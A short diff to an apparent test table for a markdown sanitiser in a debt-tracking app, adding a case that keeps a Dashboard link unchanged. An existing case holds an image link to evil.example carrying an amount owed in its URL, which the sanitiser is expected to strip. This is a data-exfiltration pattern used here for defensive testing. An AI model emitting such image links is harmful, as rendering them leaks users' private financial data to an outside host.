@@ -6,6 +6,7 @@ test.each([
     'See [Plan](/recommendations) and [your debts](/liabilities).',
     'See [Plan](/recommendations) and [your debts](/liabilities).',
   ],
+  ['See the [Dashboard](/).', 'See the [Dashboard](/).'],
   ['You owe 3 < 4, and 5 > 4, and/or (more) [x].', 'You owe 3 < 4, and 5 > 4, and/or (more) [x].'],
   ['| Debt | Left |\n|---|---|\n| Car | 3 |', '| Debt | Left |\n|---|---|\n| Car | 3 |'],
   ['![chart](https://evil.example/p.png?owed=3600)!', 'chart!'],
